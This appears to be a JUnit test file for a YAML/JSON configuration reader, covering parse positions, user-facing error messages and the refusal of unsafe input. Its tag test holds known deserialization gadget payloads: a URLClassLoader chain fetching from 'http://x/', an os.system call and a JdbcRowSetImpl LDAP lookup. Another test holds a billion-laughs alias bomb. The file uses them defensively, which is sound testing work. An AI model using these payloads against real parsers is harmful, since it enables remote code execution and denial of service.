package io.github.amlmaven.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.github.amlmaven.AmlException;
import java.time.Duration;
import java.util.Collections;
import java.util.List;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class NodeReaderTest {
    @Test
    void keepsTheWrittenTextAndThePlace() throws UnreadableFileException {
        Node.Mapping map = (Node.Mapping) read("a: 0123\n'b' : [on, 1_000, \"x\\ty\"]\nc:\n");
        assertThat(map.entries())
                .extracting(entry -> entry.key().text() + "@" + entry.key().place())
                .containsExactly("a@f:1:1", "b@f:2:1", "c@f:3:1");
        assertThat(map.entries().get(0).value()).isEqualTo(new Node.Scalar(new Place("f", 1, 4), "0123", true));
        assertThat(((Node.Sequence) map.entries().get(1).value()).items())
                .extracting(item -> ((Node.Scalar) item).text() + "@" + item.place())
                .containsExactly("on@f:2:8", "1_000@f:2:12", "x\ty@f:2:19");
        assertThat(map.entries().get(2).value().isNothing()).isTrue();
    }

    @Test
    void readsJsonWithTabsBetweenTheTokens() throws UnreadableFileException {
        Node.Mapping map = (Node.Mapping) read("{\n\t\"a\"\t:\t[\t1\t,\t\"x\"\t]\t,\n\t\t\"b\":true\n\t}\n");
        assertThat(map.entries()).hasSize(2);
        assertThat(map.entries().get(1).value().place()).isEqualTo(new Place("f", 3, 7));
    }

    @Test
    void readsEscapedSlashesAndSurrogatePairsOfJson() throws UnreadableFileException {
        Node.Mapping map = (Node.Mapping) read("{\"a\": \"\\/x\\ud83d\\ude00\"}");
        assertThat(((Node.Scalar) map.entries().get(0).value()).text()).isEqualTo("/x😀");
    }

    @Test
    void anAnchorsValueIsReusedAndMerged() throws UnreadableFileException {
        Node.Mapping map = (Node.Mapping) read("a: &x\n  k: 1\n  l: 2\nb: *x\nc:\n  <<: *x\n  k: 3\n");
        assertThat(map.entries().get(1).value()).isSameAs(map.entries().get(0).value());
        Node.Mapping merged = (Node.Mapping) map.entries().get(2).value();
        assertThat(merged.entries())
                .extracting(entry -> entry.key().text() + "=" + ((Node.Scalar) entry.value()).text())
                .containsExactly("k=3", "l=2");
    }

    @Test
    void aDuplicateKeyIsNamedWithBothLines() {
        assertThat(problem("a: 1\nb: 2\na: 3\n")).isEqualTo("f:3:1: 'a' is given twice (first in line 1)");
        assertThat(problem("{\"a\": {\"x\": 1, \"x\": 2}}")).isEqualTo("f:1:16: 'x' is given twice (first in line 1)");
    }

    /** In the table {@code ¶} is a line end and {@code →} a tab. */
    @ParameterizedTest
    @CsvSource(
            delimiterString = "=>",
            quoteCharacter = '~',
            value = {
                "→a: b => f:1:1: a tab stands where YAML wants blanks",
                "a:¶→b: c => f:2:1: a tab stands where YAML wants blanks",
                "{¶ \"A\": \"x\"¶ \"B\": 1¶} => f:3:2: a comma or a closing bracket is missing before this",
                "{\"a\": [1, 2} => f:1:12: a comma or a closing bracket is missing before this",
                "{\"a\": 1¶ => f:1:1: the bracket opened here is never closed",
                "{\"a\": 1}} => f:1:9: the content has ended before this",
                "a: 'b¶c: d¶ => f:1:4: the quote opened here is never closed",
                "d:¶  - p=3¶    - pip:¶      - x => f:3:10: this ':' does not fit: the value or the line before it has"
                        + " not ended",
                "a: b: c => f:1:5: this ':' does not fit: the value or the line before it has not ended",
                "a: b¶  c¶d¶ => f:3:1: this line is not 'key: value'",
                "a: - b => f:1:4: a list cannot begin here",
                "- a¶b: c => f:2:1: this does not continue what begins in line 1",
                "a: \"b\" c => f:1:8: the value has ended before this",
                "a: 'it's' => f:1:8: the value has ended before this",
                "a: [b], => f:1:7: the value has ended before this",
                "a:¶  b: c¶ d: e => f:3:2: this does not continue what begins in line 1",
                "{\"a\":¶ => f:2:1: the file ends within a bracket that is never closed",
                "a: [ => f:1:5: the file ends within a bracket that is never closed",
                "a: [b,¶ => f:2:1: the file ends within a bracket that is never closed",
                "a: [b,,c] => f:1:7: a comma stands where a value is wanted",
                "a: ] => f:1:4: a closing bracket stands where a value is wanted",
                "a: & b => f:1:4: no value can begin with this character",
                "a: ? b => f:1:4: a value cannot begin with '? '",
                "a: |x¶ b => f:1:5: the text of a value that begins with | or > stands below it",
                "%a: b => f:1:1: a line that begins with % is no 'key: value'",
                "a: \"C:\\xyz\" => f:1:9: the backslash before this makes an escape that YAML does not know",
                "a: \"C:\\q\" => f:1:8: the backslash before this makes an escape that YAML does not know",
                "a: @x => f:1:4: no value can begin with this character",
                "\"A\":[ - \"m.py\" - 234 ] => f:1:4: the content has ended before this",
                "a: b¶---¶c: d => f:2:1: a second document begins here",
                "a: *x => f:1:4: the alias '*x' has no anchor before it",
                "a: &x [*x] => f:1:8: the alias '*x' has no anchor before it",
                "[a]: b => f:1:1: a list or a map is no key",
                "{{a: b}: c} => f:1:2: a list or a map is no key",
                "a: \"\\0\" => f:1:4: the value holds a NUL character",
                "a: \"\\ud83d\" => f:1:4: the value holds half of a surrogate pair",
                "a: \"\\UFFFFFFFF\" => f: an escape \\U in the file names no character",
                "a: \"\\U00110000\" => f:1:7: the backslash before this makes an escape that YAML does not know",
                "%YAML 9.9¶---¶a: b => f:1:1: this is not YAML: found incompatible YAML document (version 1.* is required)",
            })
    void saysInTheUsersWordsWhatIsWrong(String text, String problem) {
        assertThat(problem(text.replace('¶', '\n').replace('→', '\t'))).isEqualTo(problem);
    }

    @Test
    void aMergeConflictIsNamedAsSuch() {
        assertThat(problem("type: local\n<<<<<<< HEAD\na: b\n=======\na: c\n>>>>>>> theirs\n"))
                .isEqualTo("f:2:1: a merge conflict was left in the file: '<<<<<<< HEAD'");
        assertThat(problem("a: c\r\n>>>>>>> 12ab\r\n"))
                .isEqualTo("f:2:1: a merge conflict was left in the file: '>>>>>>> 12ab'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                "a: !!python/object/apply:os.system ['id']",
                "a: !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: 'ldap://x', autoCommit: true}",
                "a: !!binary aGk=",
                "a: !!str x",
                "a: ! x",
                "!x a: b",
                "a: !<tag:yaml.org,2002:java.lang.Runtime> x",
                "%TAG !e! tag:yaml.org,2002:\n---\na: !e!java.io.File [x]",
                "a: [!!set {x}]"
            })
    void refusesEveryTag(String text) {
        assertThat(problem(text)).contains("tags are not allowed here");
    }

    @ParameterizedTest
    @ValueSource(strings = {"password: !hunter2 x", "password: *hunter2", "password: '%hunter2", "password: @hunter2"})
    void neverShowsWhatMayBeAPassword(String text) {
        AmlException failure = failure(text);
        assertThat(failure.getMessage()).doesNotContain("hunter2");
    }

    @Test
    void boundsAliasesAndDepthInNoTime() {
        StringBuilder laughs = new StringBuilder("a0: &a0 [lol, lol]\n");
        for (int i = 1; i < 40; i++) {
            laughs.append('a').append(i).append(": &a").append(i).append(" [");
            laughs.append(String.join(",", Collections.nCopies(10, "*a" + (i - 1))))
                    .append("]\n");
        }
        for (List<String> attack : List.of(
                List.of(laughs.toString(), "more than 20 aliases"),
                List.of("[".repeat(250_000), "nested deeper than 20 levels"),
                List.of("{\"a\":".repeat(50_000), "nested deeper than 20 levels"),
                List.of("- ".repeat(120_000), "nested deeper than 20 levels"),
                List.of("? ".repeat(120_000), "nested deeper than 20 levels"),
                List.of("a: " + "[".repeat(19) + "]".repeat(19) + "\nb: " + "[".repeat(20), "deeper than 20"))) {
            String problem = Assertions.assertTimeoutPreemptively(Duration.ofSeconds(2), () -> problem(attack.get(0)));
            assertThat(problem).contains(attack.get(1));
        }
    }

    @Test
    void longValuesCostLittle() {
        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(2), () -> {
            read("a: " + "x".repeat(250_000));
            read("a: \"" + "\\n".repeat(120_000) + "\"");
            read("a: [" + "x,".repeat(120_000) + "]");
            read("a:\t" + "x\t".repeat(120_000));
            StringBuilder keys = new StringBuilder();
            for (int i = 0; i < 30_000; i++) {
                keys.append('k').append(i).append(":\n");
            }
            assertThat(((Node.Mapping) read(keys.toString())).entries()).hasSize(30_000);
        });
    }

    private static Node read(String text) throws UnreadableFileException {
        Findings findings = new Findings();
        Node node = new NodeReader("f", text, findings).read();
        findings.refuse();
        return node;
    }

    private static String problem(String text) {
        return failure(text).problem();
    }

    private static AmlException failure(String text) {
        Findings findings = new Findings();
        try {
            new NodeReader("f", text, findings).read();
        } catch (UnreadableFileException e) {
            findings.mistake(e.mistake());
        }
        AmlException failure = catchThrowableOfType(AmlException.class, findings::refuse);
        assertThat(failure)
                .as("the refusal of " + text.substring(0, Math.min(60, text.length())))
                .isNotNull();
        return failure;
    }
}
